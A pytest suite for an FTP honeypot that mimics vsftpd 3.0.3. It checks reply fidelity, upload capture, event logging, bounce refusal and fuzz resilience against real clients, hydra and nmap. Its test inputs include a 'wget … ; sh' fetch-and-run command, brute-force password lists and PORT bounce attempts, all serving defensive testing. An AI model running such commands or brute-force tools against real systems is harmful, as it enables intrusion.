# SPDX-License-Identifier: MIT
"""The FTP trap against real clients and the real thing (Debian 12's vsftpd 3.0.3).

* the same command sequences sent to a real ``vsftpd`` (started here on loopback with the
  persona's settings) and to the trap: replies compared line for line (passive ports and the
  STAT client count normalised);
* ``lftp`` and ``curl`` upload → the bytes are in the content store and the listing shows them;
* ftplib: banner, SYST, FEAT, a wrong password (530) and the events they leave, anonymous RETR;
* ``hydra`` (bounded) → ``ftp.login.failed``/``ftp.login.success``; ``nmap -sV --script ftp-anon``
  names vsftpd 3.0.3 and reports anonymous login;
* PORT to another host is refused, PORT to the client never gets a connection, a passive data
  connection from another address is closed; seeded fuzz leaves the sensor serving.
"""

from __future__ import annotations

import ftplib
import hashlib
import io
import json
import os
import random
import re
import shutil
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from payloadserver import serve_payload
from sensorutil import SensorProc, free_port, need, run_sensor, stop_process, wait_port

README = "hi from the persona\n"
FILES = {"pub/README": README, "pub/firmware/notes.txt": "v2\n", "motd.txt": "welcome\n"}
VSFTPD = Path("/usr/sbin/vsftpd")
LOCAL = ("sshtest", "Test-Pass-123")
USERDB = ["root:x:!root", "root:x:!123456", "root:x:*", "admin:x:admin2024"]  # sensorutil's, for hydra and lftp
HYDRA_BOUNDS = ("-t", "2", "-W", "1", "-w", "5", "-f", "-I")  # 2 tasks, short waits, stop at the first hit


@pytest.fixture(scope="module")
def sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    port = free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.ftp": {"enabled": True, "listen": [f"127.0.0.1:{port}"], "fail_delay": 0.2, "files": toml_keys(FILES)}
        | {"max_upload_bytes": 100_000},
        "sensor.ssh": {"enabled": False},
        "sensor.telnet": {"enabled": False},
        "sensor.limits": {"max_per_ip": 200},
        "sensor.credentials": {"userdb": [f"{LOCAL[0]}:x:{LOCAL[1]}", *USERDB]},
    }
    with run_sensor(tmp_path_factory.mktemp("sensor"), overrides) as sp:
        wait_port(port, proc=sp.proc)
        sp.wait_for(lambda evs: any(e["eventid"] == "honeyfarm.sensor.start" for e in evs))
        yield sp, port


def toml_keys(d: dict[str, str]) -> dict[str, str]:
    """Quoted keys: sensorutil writes inline-table keys bare, and `pub/README` is no bare key."""
    return {json.dumps(k): v for k, v in d.items()}


def events(sp: SensorProc, eventid: str, **match: Any) -> list[dict[str, Any]]:
    return [e for e in sp.events() if e["eventid"] == eventid and all(e.get(k) == v for k, v in match.items())]


def wait_event(sp: SensorProc, eventid: str, pred: Any = lambda e: True, timeout: float = 10.0) -> dict[str, Any]:
    evs = sp.wait_for(lambda evs: any(e["eventid"] == eventid and pred(e) for e in evs), timeout)
    return next(e for e in evs if e["eventid"] == eventid and pred(e))


def stored(sp: SensorProc, sha256: str) -> bytes:
    found = list(sp.spool.rglob(sha256))
    assert found, f"{sha256} not in the content store"
    return found[0].read_bytes()


# --- a plain control-channel client ---------------------------------------------------------------


class Control:
    def __init__(self, port: int, source: str | None = None) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.buf = b""
        self.banner = self.reply()

    def reply(self) -> str:
        """One whole reply (multi-line ``ddd-`` ... ``ddd `` included)."""
        lines: list[bytes] = []
        while True:
            while b"\r\n" not in self.buf:
                try:
                    chunk = self.sock.recv(65536)
                except ConnectionResetError:
                    chunk = b""
                if not chunk:
                    return "<closed>" if not lines else b"\r\n".join(lines).decode()
                self.buf += chunk
            line, self.buf = self.buf.split(b"\r\n", 1)
            lines.append(line)
            if re.match(rb"\d{3} ", lines[0]) or (len(line) >= 4 and line[:3] == lines[0][:3] and line[3:4] == b" "):
                return b"\r\n".join(lines).decode()

    def cmd(self, line: str | bytes) -> str:
        try:
            self.sock.sendall((line.encode() if isinstance(line, str) else line) + b"\r\n")
        except OSError:
            return "<closed>"
        return self.reply()

    def close(self) -> None:
        self.sock.close()


def transcript(port: int, lines: list[str]) -> list[str]:
    c = Control(port)
    out = [c.banner]
    try:
        for line in lines:
            out.append(f"{line} -> {c.cmd(line)}")
    finally:
        c.close()
    return out


def normalise(lines: list[str]) -> list[str]:
    out = []
    for line in lines:
        line = re.sub(r"\(127,0,0,1,\d+,\d+\)", "(127,0,0,1,P)", line)
        line = re.sub(r"\(\|\|\|\d+\|\)", "(|||P|)", line)
        line = re.sub(r"client count was \d+", "client count was N", line)
        line = re.sub(r"\w{3} \d\d (\d\d:\d\d| \d{4})", "DATE", line)  # the persona's files are older
        line = line.replace("drwxrwxrwx", "drwxr-xr-x")  # the real pub is writable for the transfer probes
        out.append(line)
    return out


# --- differential: the trap answers as the real vsftpd --------------------------------------------

PRELOGIN = ["SYST", "FEAT", "HELP", "STAT", "PWD", "FOO", "AUTH TLS", "PBSZ 0", "REIN", "OPTS UTF8 ON", "OPTS X"]
PRELOGIN += ["PASS x", "USER", "PASS", "USER bob", "PASS no", "user Bob", "pass x"]
# fmt: off
POSTLOGIN = [
    "USER anonymous", "PASS guest@", "SYST", "FEAT", "PWD", "TYPE I", "TYPE A", "TYPE X", "MODE S",
    "MODE B", "STRU F", "STRU R", "HELP", "STAT", "NOOP", "FOO bar", "CWD pub", "PWD", "CWD nope",
    "CDUP", "CWD /pub/../../pub/firmware", "PWD", "CWD /", "SIZE pub/README", "SIZE nope", "SIZE pub",
    "LIST", "PORT 10,0,0,1,4,1", "PORT 127,0,0,1,0,21", "PORT junk", "EPRT |1|10.0.0.1|2000|",
    "EPRT junk", "EPRT |3|127.0.0.1|2000|", "EPSV 2", "REST 10", "RETR pub/README", "TYPE I",
    "RETR nope", "ABOR", "OPTS UTF8 ON", "OPTS X", "ALLO 10", "DELE pub/README", "MKD d", "RMD pub",
    "RNFR pub/README", "RNTO x", "SITE HELP", "APPE x", "USER x", "PASS y", "STAT pub", "STAT nope",
    "MDTM nope", "AUTH TLS", "PBSZ 0", "PROT P", "REIN", "ACCT x", "SMNT x", "XPWD", "XCWD pub", "XCUP",
    "CWD", "EPSV 1", "SITE EXEC id", "MKD", "size pub/README", "  NOOP", "NOOP x y z", "EPSV ALL",
    "PASV", "QUIT",
]
# fmt: on
LOCAL_USER = [f"USER {LOCAL[0]}", f"PASS {LOCAL[1]}", "PWD", "STAT", "SYST", "USER x", "PASS y", "DELE nope"]
LOCAL_USER += ["DELE motd.txt", "MKD d", "RMD nope", "RMD pub", "RNFR nope", "RNTO x", "RNFR motd.txt", "RNTO y"]
LOCAL_USER += ["SITE HELP", "SITE UMASK", "SITE CHMOD 777 nope", "SITE FOO", "SITE", "STOR x", "APPE x", "STOU"]
LOCAL_USER += ["RETR nope", "LIST", "QUIT"]


@pytest.fixture(scope="module")
def real_vsftpd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    if not VSFTPD.exists():
        pytest.skip("vsftpd is not installed (scripts/install-system-deps.sh installs it)")
    if os.geteuid() != 0:
        pytest.skip("a real vsftpd with anonymous login needs root (chroot, privilege drop)")
    work = tmp_path_factory.mktemp("vsftpd")
    # the local user enters its root before chroot, as itself: pytest's 0700 tmp dirs are in the way
    root = Path(tempfile.mkdtemp(prefix="honeyfarm-vsftpd-"))
    for path, text in FILES.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    for d in [root, *root.rglob("*")]:
        d.chmod(0o755 if d.is_dir() else 0o644)
    (root / "pub").chmod(0o777)  # where the transfer probes upload (the persona accepts uploads anywhere)
    empty = work / "empty"
    empty.mkdir()
    port = free_port()
    conf = work / "vsftpd.conf"
    conf.write_text(
        "\n".join(
            [
                "listen=YES",
                "listen_ipv6=NO",
                "listen_address=127.0.0.1",
                f"listen_port={port}",
                "background=NO",
                "anonymous_enable=YES",
                f"anon_root={root}",
                "local_enable=YES",
                "write_enable=YES",
                "anon_upload_enable=YES",
                "chroot_local_user=YES",  # the persona's local users see / as the anonymous ones
                f"local_root={root}",
                "xferlog_enable=NO",
                "connect_from_port_20=YES",
                f"secure_chroot_dir={empty}",
                "pam_service_name=vsftpd",
                "seccomp_sandbox=NO",
                "",
            ]
        )
    )
    # a local account as tests/sensorutil.py's real sshd has it
    if subprocess.run(["id", LOCAL[0]], capture_output=True).returncode != 0:
        subprocess.run(["useradd", "-m", "-s", "/bin/bash", LOCAL[0]], check=True)
    subprocess.run(["chpasswd"], input=f"{LOCAL[0]}:{LOCAL[1]}\n".encode(), check=True)
    proc = subprocess.Popen([str(VSFTPD), str(conf)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_port(port, proc=proc)
        yield port
    finally:
        stop_process(proc)
        shutil.rmtree(root, ignore_errors=True)


def test_replies_match_the_real_vsftpd(real_vsftpd: int, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    for probe in (PRELOGIN, POSTLOGIN, LOCAL_USER):
        want = normalise(transcript(real_vsftpd, probe))
        got = normalise(transcript(port, probe))
        diffs = [f"real: {w!r}\ntrap: {g!r}" for w, g in zip(want, got, strict=True) if w != g]
        assert not diffs, "\n".join(diffs)


TRANSFERS: list[tuple[str, bytes | None]] = [
    ("LIST", None),
    ("LIST pub", None),
    ("LIST -a pub", None),
    ("NLST pub", None),
    ("LIST nope", None),
    ("RETR pub/README", None),
    ("RETR pub", None),
    ("STOR pub/up.txt", b"uploaded bytes\n"),
    ("LIST pub", None),
    ("SIZE pub/up.txt", None),
    ("STOU pub/up.txt", b"again\n"),
    ("NLST pub", None),
    ("APPE pub/up.txt", b"more\n"),
    ("RETR pub/up.txt", None),
]


def transfers(port: int) -> list[str]:
    """Each probe over its own PASV data connection: the control replies and the data."""
    c = Control(port)
    out = [c.banner, c.cmd("USER anonymous"), c.cmd("PASS guest@")]
    try:
        for line, upload in TRANSFERS:
            if not line.startswith(("LIST", "NLST", "RETR", "STOR", "STOU", "APPE")):
                out.append(f"{line} -> {c.cmd(line)}")
                continue
            m = re.search(r"\(127,0,0,1,(\d+),(\d+)\)", c.cmd("PASV"))
            assert m
            data = socket.create_connection(("127.0.0.1", int(m.group(1)) * 256 + int(m.group(2))), timeout=5)
            first = c.cmd(line)
            got = b""
            if first.startswith("150"):
                if upload is not None:
                    data.sendall(upload)
                else:
                    while chunk := data.recv(65536):
                        got += chunk
            data.close()
            last = c.reply() if first.startswith("150") else ""
            listing = got.decode()
            out.append(f"{line} -> {first} | {listing!r} | {last}")
    finally:
        c.close()
    return out


def test_transfers_match_the_real_vsftpd(real_vsftpd: int, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    want = normalise(transfers(real_vsftpd))
    got = normalise(transfers(port))
    diffs = [f"real: {w!r}\ntrap: {g!r}" for w, g in zip(want, got, strict=True) if w != g]
    assert not diffs, "\n".join(diffs)


# --- real clients -----------------------------------------------------------------------------------


def test_ftplib_sees_vsftpd_and_a_wrong_password_is_logged(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    f = ftplib.FTP()
    assert f.connect("127.0.0.1", port, timeout=10) == "220 (vsFTPd 3.0.3)"
    assert f.sendcmd("FEAT").startswith(
        "211-Features:\n EPRT\n EPSV\n MDTM\n PASV\n REST STREAM\n SIZE\n TVFS\n211 End"
    )
    with pytest.raises(ftplib.error_perm, match=r"^530 Please login with USER and PASS\.$"):
        f.sendcmd("SYST")
    with pytest.raises(ftplib.error_perm, match=r"^530 Login incorrect\.$"):
        f.login("root", "root")
    f.close()
    failed = wait_event(sp, "ftp.login.failed", lambda e: e.get("password") == "root")
    assert failed["username"] == "root" and failed["protocol"] == "ftp"
    wait_event(sp, "ftp.command.input", lambda e: e["session"] == failed["session"] and e["extra"]["verb"] == "PASS")
    cmds = [e["command"] for e in events(sp, "ftp.command.input", session=failed["session"])]
    assert cmds == ["FEAT", "SYST", "USER root", "PASS ********"]  # the password only in the login event


def test_anonymous_login_lists_and_reads_the_persona(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    f = ftplib.FTP()
    f.connect("127.0.0.1", port, timeout=10)
    assert f.login() == "230 Login successful."  # ftplib: anonymous / anonymous@
    assert f.sendcmd("SYST") == "215 UNIX Type: L8"
    assert f.pwd() == "/"
    lines: list[str] = []
    f.retrlines("LIST pub", lines.append)
    assert re.fullmatch(r"-rw-r--r--    1 0        0 +\d+ \w{3} \d\d (\d\d:\d\d| \d{4}) README", lines[0]), lines
    buf = io.BytesIO()
    assert f.retrbinary("RETR pub/README", buf.write) == "226 Transfer complete."
    assert buf.getvalue() == README.encode()
    f.storbinary("STOR anon.bin", io.BytesIO(b"\x7fELF" + os.urandom(3000)))
    names = f.nlst()
    assert "anon.bin" in names
    f.quit()
    ok = wait_event(sp, "ftp.login.success", lambda e: e.get("username") == "anonymous")
    assert ok["extra"]["anonymous"] is True
    up = wait_event(sp, "ftp.session.file_upload", lambda e: e["extra"]["path"] == "/anon.bin")
    assert stored(sp, up["sha256"]).startswith(b"\x7fELF") and up["extra"]["size"] == 3004


def test_an_upload_past_the_cap_is_cut_off_and_kept(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    f = ftplib.FTP()
    f.connect("127.0.0.1", port, timeout=10)
    f.login("admin", "admin2024")
    payload = os.urandom(300_000)
    try:
        f.storbinary("STOR big.bin", io.BytesIO(payload))
        raise AssertionError("the upload past the cap was not refused")
    except ftplib.error_temp as e:
        assert str(e) == "451 Failure writing to local file."
    except OSError:  # the data connection closed under ftplib's send: the reply is still to be read
        with pytest.raises(ftplib.error_temp, match=r"^451 Failure writing to local file\.$"):
            f.getresp()
    f.close()
    ev = wait_event(sp, "ftp.session.file_upload", lambda e: e["extra"]["path"] == "/big.bin")
    assert ev["extra"]["truncated"] is True and ev["extra"]["complete"] is False
    assert ev["extra"]["size"] == 100_000 and stored(sp, ev["sha256"]) == payload[:100_000]


def test_lftp_put_is_captured_and_listed(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    if reason := need("lftp"):
        pytest.skip(reason)
    sp, port = sensor
    payload = os.urandom(70_000)
    (tmp_path / "bot.sh").write_bytes(payload)
    script = "set net:max-retries 1; set net:timeout 5; set ftp:passive-mode true; put bot.sh -o bot.sh; ls; bye"
    res = subprocess.run(
        ["lftp", "-u", "admin,admin2024", "-p", str(port), "-e", script, "127.0.0.1"],
        capture_output=True,
        text=True,
        timeout=30,
        cwd=tmp_path,
    )
    assert res.returncode == 0, res.stderr
    assert re.search(r"-rw-------    1 1000     1000        70000 \w{3} \d\d \d\d:\d\d bot\.sh", res.stdout), res.stdout
    up = wait_event(sp, "ftp.session.file_upload", lambda e: e["extra"]["path"] == "/bot.sh")
    assert up["sha256"] == hashlib.sha256(payload).hexdigest()
    assert up["extra"]["complete"] is True and up["extra"]["truncated"] is False
    assert stored(sp, up["sha256"]) == payload
    ok = wait_event(sp, "ftp.login.success", lambda e: e.get("username") == "admin")
    assert ok["password"] == "admin2024"


def test_curl_upload_and_listing(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    if reason := need("curl"):
        pytest.skip(reason)
    sp, port = sensor
    (tmp_path / "x.py").write_bytes(b"import os; os.system('id')\n")
    url = f"ftp://admin:admin2024@127.0.0.1:{port}/"
    up = subprocess.run(["curl", "-sS", "-m", "20", "-T", str(tmp_path / "x.py"), url], capture_output=True, text=True)
    assert up.returncode == 0, up.stderr
    ls = subprocess.run(["curl", "-sS", "-m", "20", url + "pub/"], capture_output=True, text=True)
    assert ls.returncode == 0, ls.stderr
    assert "README" in ls.stdout and "firmware" in ls.stdout
    ev = wait_event(sp, "ftp.session.file_upload", lambda e: e["extra"]["path"] == "/x.py")
    assert stored(sp, ev["sha256"]) == b"import os; os.system('id')\n"


def test_hydra_logins_are_logged(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    if reason := need("hydra"):
        pytest.skip(reason)
    sp, port = sensor
    (tmp_path / "pw.txt").write_text("root\n123456\nhydra-guess\n")
    outputs = []
    # A second run if the first ends without its find: once in a full suite on two cores hydra gave up at
    # once ("1 target did not resolve or could not be connected"); hydra's retries are not under test.
    for _ in range(2):
        res = subprocess.run(
            ["hydra", "-l", "root", "-P", str(tmp_path / "pw.txt"), "-s", str(port), *HYDRA_BOUNDS, "ftp://127.0.0.1"],
            capture_output=True,
            text=True,
            timeout=40,
            cwd=tmp_path,
        )
        outputs.append(res.stdout + res.stderr)
        if "password: hydra-guess" in res.stdout:
            break
    assert "password: hydra-guess" in res.stdout, outputs
    wait_event(sp, "ftp.login.success", lambda e: e.get("password") == "hydra-guess")
    failed = {e["password"] for e in events(sp, "ftp.login.failed", username="root")}
    assert {"root", "123456"} <= failed


def test_nmap_names_vsftpd_and_reports_anonymous_login(sensor: tuple[SensorProc, int]) -> None:
    if reason := need("nmap"):
        pytest.skip(reason)
    _, port = sensor
    res = subprocess.run(
        ["nmap", "-n", "-Pn", "-sV", "-p", str(port), "--script", "ftp-anon", "127.0.0.1"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert re.search(rf"{port}/tcp\s+open\s+ftp\s+vsftpd 3\.0\.3", res.stdout), res.stdout
    assert "Anonymous FTP login allowed (FTP code 230)" in res.stdout, res.stdout


def test_a_url_in_a_command_is_fetched(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    with serve_payload(b"#!/bin/sh\necho pwned\n") as http_port:
        url = f"http://127.0.0.1:{http_port}/mips.sh"
        c = Control(port)
        c.cmd("USER admin")
        c.cmd("PASS admin2024")
        assert c.cmd(f"SITE EXEC wget {url} -O /tmp/m; sh /tmp/m") == "500 Unknown SITE command."
        c.close()
        dl = wait_event(sp, "cowrie.session.file_download", lambda e: e.get("url") == url)
    assert dl["trap"] == "ftp" and stored(sp, dl["sha256"]) == b"#!/bin/sh\necho pwned\n"


# --- no bounce, no data connection from strangers ---------------------------------------------------


def test_port_is_never_connected_to(sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(1)
    lsock.settimeout(0.5)
    lport = lsock.getsockname()[1]
    c = Control(port)
    try:
        c.cmd("USER anonymous")
        c.cmd("PASS x")
        assert c.cmd("PORT 192,0,2,1,0,80") == "500 Illegal PORT command."
        assert c.cmd(f"EPRT |1|192.0.2.1|{lport}|") == "500 Illegal EPRT command."
        assert (
            c.cmd(f"PORT 127,0,0,1,{lport >> 8},{lport & 255}") == "200 PORT command successful. Consider using PASV."
        )
        assert c.cmd("LIST") == "425 Failed to establish connection."
        with pytest.raises(TimeoutError):
            lsock.accept()
    finally:
        c.close()
        lsock.close()


def test_passive_connection_from_another_address_is_refused(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    c = Control(port)
    c.cmd("USER anonymous")
    c.cmd("PASS x")
    pasv = c.cmd("PASV")
    m = re.search(r"\(127,0,0,1,(\d+),(\d+)\)", pasv)
    assert m, pasv
    stranger = socket.socket()
    stranger.bind(("127.0.0.2", 0))
    stranger.connect(("127.0.0.1", int(m.group(1)) * 256 + int(m.group(2))))
    assert c.cmd("LIST") == "425 Security: Bad IP connecting."
    stranger.settimeout(5)
    assert stranger.recv(100) == b""  # closed without a byte
    stranger.close()
    c.cmd("QUIT")
    c.close()
    closed = wait_event(sp, "ftp.session.closed", lambda e: e["extra"].get("data_refused") == ["127.0.0.2"])
    assert closed["extra"]["reason"] == "quit"


# --- hostile input ------------------------------------------------------------------------------------


def test_fuzz_and_long_lines_leave_it_serving(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    rng = random.Random(14)
    verbs = ["USER", "PASS", "CWD", "LIST", "RETR", "STOR", "PORT", "EPRT", "EPSV", "SITE", "REST", "TYPE", ""]
    for _ in range(30):
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.recv(100)
            lines = []
            for _ in range(rng.randint(1, 12)):
                junk = bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 300)))
                lines.append(rng.choice(verbs).encode() + rng.choice([b" ", b""]) + junk.replace(b"\n", b""))
            login = [b"USER anonymous", b"PASS x"] if rng.random() < 0.6 else []  # most fuzz the logged-in parser
            s.sendall(b"\r\n".join(login + lines) + b"\r\n")
            s.shutdown(socket.SHUT_WR)  # the trap answers what it read, then sees the end and closes
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.recv(100)
        s.sendall(b"USER " + b"A" * 5000 + b"\r\n")  # past vsftpd's 4096: cut, answered
        assert s.recv(100).startswith(b"331 ")
        s.sendall(b"B" * 200_000)  # no newline past the 64 KiB line ceiling: closed
        s.settimeout(5)
        try:
            while s.recv(65536):
                pass
        except ConnectionError:
            pass  # reset with unread input: closed all the same
    closed = wait_event(sp, "ftp.session.closed", lambda e: e["extra"]["reason"].startswith("malformed"))
    assert "line too long" in closed["extra"]["reason"]
    c = Control(port)
    assert c.banner == "220 (vsFTPd 3.0.3)"
    assert c.cmd("USER anonymous") == "331 Please specify the password."
    c.close()
    assert sp.proc is not None and sp.proc.poll() is None
    crashed = [e for e in events(sp, "ftp.session.closed") if e["extra"]["reason"].startswith("error")]
    assert not crashed  # no handler raised: every input got a reply or a clean close
